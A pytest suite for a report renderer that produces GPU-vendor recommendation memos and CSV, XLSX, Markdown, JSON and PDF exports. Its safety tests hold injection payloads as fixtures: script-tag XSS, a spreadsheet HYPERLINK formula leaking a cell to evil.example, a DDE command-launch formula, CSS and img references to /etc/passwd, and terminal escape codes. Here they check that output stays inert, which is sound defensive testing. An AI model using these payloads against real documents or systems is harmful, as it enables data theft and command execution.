"""The leadership memo, the full report and the exports (issue 7).

Read as the specification: the memo answers first and fits two pages; every vendor is named
and every flagged clause quoted with its location; hostile vendor strings stay inert in
HTML, PDF, CSV, XLSX and Markdown; the same report gives the same bytes.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evaltool.errors import RenderError, UsageError
from evaltool.models import ScoreReport
from evaltool.report import fmt, render_html, render_report, report_to_json, terminal_table
from evaltool.report.exports import neutralise, to_csv, to_markdown, to_xlsx_bytes
from evaltool.report.progress import progress_enabled, track

FIXTURE = Path(__file__).resolve().parent / "fixtures" / "score_report_sample.json"

HOSTILE_VENDOR = '<script>alert("x")</script> Evil GPU'
HOSTILE_OFFER = "<img src=file:///etc/passwd> cluster"
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
HOSTILE_AT = "@SUM(1)"
HOSTILE_CSS = 'Bad</style><style>html{background:url("file:///etc/passwd")}</style>Co'


# --------------------------------------------------------------------------- fixtures


def sample_data() -> dict[str, Any]:
    return json.loads(FIXTURE.read_text(encoding="utf-8"))


def sample() -> ScoreReport:
    return ScoreReport.model_validate(sample_data())


def scaled(n: int, long_names: bool = False) -> ScoreReport:
    """The sample with `n` offers: the six originals, then eligible copies under new names."""
    data = sample_data()
    originals = data["offers"]
    offers = []
    for i in range(n):
        offer = copy.deepcopy(originals[i % len(originals)])
        if i >= len(originals):
            offer["id"] = f"{offer['id']}-{i}"
            offer["vendor"] = f"Vendor {i:02d} {offer['vendor']}"
            offer["eligible"] = True
            offer["gates"] = [g | {"status": "pass"} for g in offer["gates"]]
        if long_names:
            offer["vendor"] = (
                f"{offer['vendor']} International Accelerated Computing Holdings "
                f"and Sovereign Cloud Services Group {i:02d}"
            )
            offer["offer_name"] = (
                f"{offer['offer_name']}, reserved capacity with premium support, "
                "dedicated fabric and managed parallel storage, multi-year commitment"
            )
        offer["score"] = round(offer["score"] - i * 0.01, 2)
        offers.append(offer)
    offers.sort(key=lambda o: (not o["eligible"], -o["score"]))
    for rank, offer in enumerate(offers, 1):
        offer["rank"] = rank
    data["offers"] = offers
    return ScoreReport.model_validate(data)


def hostile() -> ScoreReport:
    data = sample_data()
    first, second, third = data["offers"][0], data["offers"][1], data["offers"][2]
    first["vendor"], first["offer_name"] = HOSTILE_VENDOR, HOSTILE_OFFER
    second["vendor"], second["offer_name"] = HOSTILE_FORMULA, HOSTILE_AT
    third["vendor"] = HOSTILE_CSS
    second["flags"][0]["quote"] = "=cmd|' /C calc'!A0 and <b>bold</b> \x1b[31mred"
    data["recommendation"]["headline"] = f"Recommend {HOSTILE_VENDOR}."
    return ScoreReport.model_validate(data)


def compact(text: str) -> str:
    """Text without whitespace: PDF extraction breaks lines anywhere."""
    return re.sub(r"\s+", "", text)


# --------------------------------------------------------------------------- numbers


@pytest.mark.parametrize(
    ("value", "expected"),
    [(12_400_000, "$12.4M"), (1_320_076.4, "$1.32M"), (980_000, "$980k"),
     (2.5e9, "$2.50B"), (512, "$512"), (None, "—"), (float("nan"), "—"), (-1.5e6, "−$1.50M")],
)
def test_money_reads_like_a_cfo_memo(value: Any, expected: str) -> None:
    assert fmt.usd(value) == expected


def test_units_are_human() -> None:
    assert fmt.days(38.2) == "38 days"
    assert fmt.days(3.5) == "3.5 days"
    assert fmt.days(1) == "1 day"
    assert fmt.usd_per_gpu_hour(2.35) == "$2.35/GPU-h"
    assert fmt.pct(0.41) == "41%"
    assert fmt.pct(None) == "—"
    assert fmt.field_label("storage_read_gbyte_s") == "Storage read (GB/s)"
    assert fmt.field_label("hw_replacement_hours") == "Hardware replacement (hours)"


@given(st.floats(min_value=0, max_value=1e13))
def test_money_is_always_short(value: float) -> None:
    assert len(fmt.usd(value)) <= 8


@given(st.text())
def test_neutralised_text_never_starts_a_formula(text: str) -> None:
    assert not neutralise(text).startswith(("=", "+", "-", "@", "\t", "\r"))


# --------------------------------------------------------------------------- memo (HTML)


def test_memo_leads_with_the_answer_and_how_sure_it_is() -> None:
    html = render_html(sample())
    body = html[html.index("<body>"):]
    headline = body.index('class="headline"')
    assert headline < body.index("Ranking of eligible offers")
    assert "Recommend NimbusGPU Inc." in body
    assert "97%" in body and "10.1 points ahead of Helios Compute GmbH" in body
    # the winner's figures, for humans
    for text in ("$1.32M", "23 days", "$2.57", "42%"):
        assert text in body


def test_memo_sections_come_in_the_order_leadership_reads_them() -> None:
    html = render_html(sample())
    order = ["Ranking of eligible offers", "Excluded offers and why",
             "Contract and lock-in red flags", "What would change the decision",
             "What this rests on"]
    positions = [html.index(f">{title}<") for title in order]
    assert positions == sorted(positions)


def test_memo_explains_exclusions_and_inputs_not_evaluated() -> None:
    html = render_html(sample())
    assert "Nordhavn Supercomputing Centre" in html
    assert "435 days to train exceeds the 120-day deadline" in html
    assert "offers/legacy-quote-a800.xlsx" in html and "call us" in html
    assert "delivery date unverified" in html  # eligible, but flagged as unverified


def test_memo_quotes_red_flags_with_their_location() -> None:
    html = render_html(sample())
    assert "Stratus may modify prices for any service upon 30 days&#39; notice." in html
    assert "offers/stratus-h200-roce.xlsx › Service Terms › B7" in html
    assert "offers/cumulus-tpu-v5p.yaml › offer.terms › line 3" in html
    # a firm commitment is good news, not a red flag
    assert "no later than 2027-02-01" not in html


def test_memo_keeps_the_winners_red_flags_when_it_must_cut() -> None:
    from evaltool.report.view import build_view

    data = sample_data()
    data["offers"][0]["flags"].append({
        "kind": "commitment_exceeds_run", "severity": "medium", "quote": None,
        "where": {"file": "offers/nimbusgpu-h100-ib.xlsx", "sheet": "Pricing", "cell": "B4"},
        "why": "signing commits $21.1M over a 12-month term; this run uses $1.5M of it",
        "ask_for": None,
    })
    view = build_view(ScoreReport.model_validate(data), kind="memo", level=3)
    assert view.red_flags[0].vendor == "NimbusGPU Inc."
    assert "commits $21.1M" in view.red_flags[0].why


def test_memo_states_what_it_rests_on() -> None:
    html = render_html(sample())
    for text in ("2026-11-20", "llm-pretraining v1.0.0", "llama-70b-pretrain",
                 "7 offer files, 1 workload file, 1 rates file; 6 offers evaluated, "
                 "1 not evaluated", "seed 20261120", "evaltool 0.1.0"):
        assert text in html


def test_what_would_change_is_plain_english_break_evens() -> None:
    html = render_html(sample())
    assert ("Helios Compute GmbH would win if the weight of GPU memory (GB) rose from 4% to 16%"
            in html)
    data = sample_data()
    data["sensitivity"]["price_cut_to_win"] = [
        {"offer_id": "helios-mi300x", "price_cut_pct": 7.3, "price_usd_per_gpu_hour_at_tie": 2.31}
    ]
    html = render_html(ScoreReport.model_validate(data))
    assert "Helios Compute GmbH would win if its price dropped by 7.3% (to $2.31/GPU-h)." in html


def test_memo_survives_a_report_without_sensitivity_or_estimates() -> None:
    data = sample_data()
    data["sensitivity"] = {}
    data["recommendation"] = {}
    for offer in data["offers"]:
        offer["estimates"] = {"mfu": None}
    html = render_html(ScoreReport.model_validate(data))
    assert "Recommend NimbusGPU Inc. — Reserved H100 cluster, 12-month term." in html
    assert "—" in html
    assert "Traceback" not in html and "{'" not in html  # no raw dicts


def test_no_eligible_offer_says_so() -> None:
    data = sample_data()
    for offer in data["offers"]:
        offer["eligible"] = False
    html = render_html(ScoreReport.model_validate(data))
    assert "No offer can be recommended: none passes the knock-out gates." in html


def test_full_report_has_charts_tables_findings_and_appendix() -> None:
    html = render_html(sample(), kind="full")
    for title in ("Cost against time to train", "Where each score comes from",
                  "How robust is the winning margin", "Rank acceptability",
                  "Scores by category", "Contract clauses and findings per vendor",
                  "Missing data and clarification questions", "Assumptions",
                  "Appendix A: where every value comes from", "Appendix B: the rubric used"):
        assert title in html, title
    assert html.count("<svg") == 4
    # the firmer wording to ask for, per vendor
    assert "Prices are fixed for the Term" in html
    # chart labels are real text
    assert re.search(r"<text[^>]*>NimbusGPU Inc\.</text>", html)
    assert "What aggregate read throughput (GB/s)" in html


def test_page_size_reaches_the_stylesheet() -> None:
    assert "size: Letter;" in render_html(sample(), page_size="Letter")
    with pytest.raises(UsageError, match="page size"):
        render_html(sample(), page_size="A3")  # type: ignore[arg-type]


# --------------------------------------------------------------------------- safety


def test_hostile_vendor_strings_are_escaped_in_html() -> None:
    for kind in ("memo", "full"):
        html = render_html(hostile(), kind=kind)
        assert "<script" not in html
        assert "<img" not in html
        assert "</style><style>" not in html
        assert "&lt;script&gt;" in html
        assert "<b>bold</b>" not in html
        assert "\x1b" not in html


def test_hostile_strings_are_inert_in_csv() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(hostile()))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE_FORMULA in cells
    assert "'" + HOSTILE_AT in cells
    for cell in cells:
        if cell and not re.fullmatch(r"-?\d+(\.\d+)?", cell):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_hostile_strings_are_inert_in_xlsx() -> None:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(to_xlsx_bytes(hostile())))
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert "'" + HOSTILE_FORMULA in seen and "'" + HOSTILE_AT in seen


def test_hostile_strings_are_inert_in_markdown() -> None:
    text = to_markdown(hostile(), kind="full")
    assert not re.search(r"(?<!\\)<", text)  # every "<" is backslash-escaped: no raw HTML
    assert "\\<script\\>" in text


def test_terminal_table_strips_escape_sequences_and_fits_100_columns() -> None:
    data = sample_data()
    data["offers"][0]["vendor"] = "\x1b[2J\x1b[31mEvil\x07 Vendor 超长名字的供应商"
    report = ScoreReport.model_validate(data)
    plain = terminal_table(report, color=False)
    assert "\x1b" not in plain and "\x07" not in plain
    from evaltool.report.terminal import display_width

    assert all(display_width(line) <= 100 for line in plain.splitlines())
    coloured = terminal_table(report, color=True)
    assert "\x1b[" in coloured
    assert "[2J" not in coloured


def test_terminal_table_lists_every_offer_best_first() -> None:
    text = terminal_table(sample(), color=False)
    lines = text.splitlines()
    assert lines[0].split()[:3] == ["#", "Vendor", "/"]
    vendors = ["NimbusGPU", "Helios", "Ironbridge", "Stratus", "Cumulus", "Nordhavn"]
    positions = [text.index(v) for v in vendors]
    assert positions == sorted(positions)
    assert "$1.32M" in text and "$2.57" in text and "42%" in text
    assert "not evaluated: offers/legacy-quote-a800.xlsx" in text


# --------------------------------------------------------------------------- exports


def test_json_is_deterministic_and_round_trips() -> None:
    report = sample()
    text = report_to_json(report)
    assert text == report_to_json(ScoreReport.model_validate_json(text))
    data = json.loads(text)
    assert list(data) == sorted(data)
    assert data["offers"][0]["id"] == "nimbusgpu-h100-ib"


def test_csv_has_one_row_per_input_with_headers_in_words_and_units() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(sample()))))
    assert len(rows) == 7  # 6 offers + 1 input not evaluated: nothing is lost
    first = rows[0]
    assert first["Vendor"] == "NimbusGPU Inc." and first["Status"] == "eligible"
    assert float(first["Run cost (USD)"]) == pytest.approx(1_320_076.4)
    assert float(first["MFU (%)"]) == pytest.approx(42.0)  # the header's unit: percent
    last = rows[-1]
    assert last["Status"] == "not evaluated" and "call us" in last["Why excluded or not evaluated"]


def test_xlsx_is_formatted_one_sheet_per_view() -> None:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(to_xlsx_bytes(sample())))
    assert wb.sheetnames[:5] == ["Ranking", "Categories", "Criteria", "Flags", "Gates"]
    assert {"Sensitivity", "Not evaluated", "Assumptions", "Rubric"} <= set(wb.sheetnames)
    ws = wb["Ranking"]
    assert ws.freeze_panes == "A3"  # two header rows: words with units, then machine keys
    header = [c.value for c in ws[1]]
    keys = [c.value for c in ws[2]]
    assert "Run cost (USD)" in header and "total_cost_usd" in keys
    assert header.index("Run cost (USD)") == keys.index("total_cost_usd")
    cost = ws.cell(row=3, column=keys.index("total_cost_usd") + 1)
    assert cost.value == pytest.approx(1_320_076.4) and "$" in cost.number_format
    mfu = ws.cell(row=3, column=keys.index("mfu") + 1)
    assert mfu.number_format == "0.0%"


def test_xlsx_bytes_are_stable() -> None:
    import time

    first = to_xlsx_bytes(sample())
    time.sleep(1.1)  # openpyxl stamps the save time, to the second
    assert to_xlsx_bytes(sample()) == first


def test_render_report_picks_the_format_by_extension(tmp_path: Path) -> None:
    report = sample()
    for ext in (".html", ".md", ".csv", ".xlsx", ".json"):
        out = render_report(report, tmp_path / f"memo{ext}")
        assert out.stat().st_size > 0
    assert (tmp_path / "memo.json").read_text(encoding="utf-8") == report_to_json(report)
    assert (tmp_path / "memo.xlsx").read_bytes()[:2] == b"PK"
    with pytest.raises(UsageError, match=r"\.docx"):
        render_report(report, tmp_path / "memo.docx")
    with pytest.raises(UsageError, match="report kind"):
        render_report(report, tmp_path / "memo.html", kind="summary")  # type: ignore[arg-type]


def test_unwritable_output_is_a_clear_error(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(RenderError, match="could not write"):
        render_report(sample(), blocker / "memo.json")


def test_progress_stays_quiet_in_pipes() -> None:
    stream = io.StringIO()
    assert not progress_enabled(stream)
    assert list(track([1, 2, 3], "offers", stream=stream)) == [1, 2, 3]
    assert stream.getvalue() == ""


# --------------------------------------------------------------------------- PDF


def _pdf_text(data: bytes) -> tuple[int, str, Any]:
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(data))
    text = "\n".join(page.extract_text() or "" for page in reader.pages)
    return len(reader.pages), text, reader


@pytest.fixture(scope="module")
def weasy() -> None:
    try:
        import weasyprint  # noqa: F401
    except OSError as exc:
        pytest.skip(f"Pango not installed: {exc}")


@pytest.fixture(scope="module")
def memo_pdf(weasy: None) -> bytes:
    from evaltool.report.pdf import render_pdf_bytes

    return render_pdf_bytes(sample())


def test_pdf_memo_fits_two_pages_and_names_every_vendor(memo_pdf: bytes) -> None:
    pages, text, reader = _pdf_text(memo_pdf)
    assert pages <= 2
    box = reader.pages[0].mediabox
    assert (round(float(box.width)), round(float(box.height))) == (595, 842)  # A4
    flat = compact(text)
    for offer in sample().offers:
        assert compact(offer.vendor) in flat, offer.vendor
    assert compact(f"Page 1 of {pages}") in flat
    assert reader.metadata.title == "GPU compute offer: recommendation"


def test_pdf_memo_quotes_the_high_severity_clauses(memo_pdf: bytes) -> None:
    flat = compact(_pdf_text(memo_pdf)[1])
    for offer in sample().offers:
        for flag in offer.flags:
            if flag.severity == "high" and flag.quote and flag.kind != "firm_commitment":
                assert compact(flag.quote[:60]) in flat, flag.quote


def test_pdf_bytes_are_stable_and_undated(memo_pdf: bytes) -> None:
    from evaltool.report.pdf import render_pdf_bytes

    assert render_pdf_bytes(sample()) == memo_pdf
    assert b"/CreationDate" not in memo_pdf and b"/ModDate" not in memo_pdf


@pytest.mark.parametrize(("n", "long_names"), [(3, False), (12, True)])
def test_pdf_memo_fits_two_pages_with_many_offers_and_long_names(
    weasy: None, n: int, long_names: bool
) -> None:
    from evaltool.report.pdf import render_pdf_bytes

    report = scaled(n, long_names=long_names)
    pages, text, _ = _pdf_text(render_pdf_bytes(report, page_size="Letter"))
    assert pages <= 2
    flat = compact(text)
    for offer in report.offers:
        # long names are cut with "…" in the memo: the distinctive start must be there
        assert compact(offer.vendor)[:30] in flat, offer.vendor


def test_pdf_with_hostile_strings_fetches_only_bundled_assets(
    weasy: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    from evaltool.report import pdf

    fetched: list[str] = []
    original = pdf.bundled_only_fetcher

    def recording(weasyprint: Any, root: Path) -> Any:
        fetcher = original(weasyprint, root)
        inner = fetcher.fetch

        def fetch(url: str, headers: Any = None) -> Any:
            fetched.append(url)
            return inner(url, headers)

        fetcher.fetch = fetch
        return fetcher

    monkeypatch.setattr(pdf, "bundled_only_fetcher", recording)
    data = pdf.render_pdf_bytes(hostile(), kind="full")
    assert fetched and all("/fonts/" in url for url in fetched)
    assert b"/JavaScript" not in data and b"/URI" not in data
    flat = compact(_pdf_text(data)[1])
    assert compact("<script>alert(") in flat  # shown as text, inert


def test_fetcher_refuses_anything_but_bundled_assets(weasy: None) -> None:
    import weasyprint

    from evaltool.report._paths import templates_dir
    from evaltool.report.pdf import bundled_only_fetcher

    fetcher = bundled_only_fetcher(weasyprint, templates_dir())
    for url in ("file:///etc/passwd", "http://evil.example/x.css",
                (templates_dir() / ".." / "pyproject.toml").as_uri(), "data:text/css,x"):
        with pytest.raises(ValueError, match="refused"):
            fetcher.fetch(url)
    font = (templates_dir() / "fonts" / "DejaVuSans.ttf").as_uri()
    assert fetcher.fetch(font).read(4) == b"\x00\x01\x00\x00"


def test_full_pdf_renders_with_page_numbers(weasy: None, tmp_path: Path) -> None:
    out = render_report(sample(), tmp_path / "full.pdf", kind="full")
    pages, text, _ = _pdf_text(out.read_bytes())
    assert pages > 2
    assert compact(f"Page {pages} of {pages}") in compact(text)
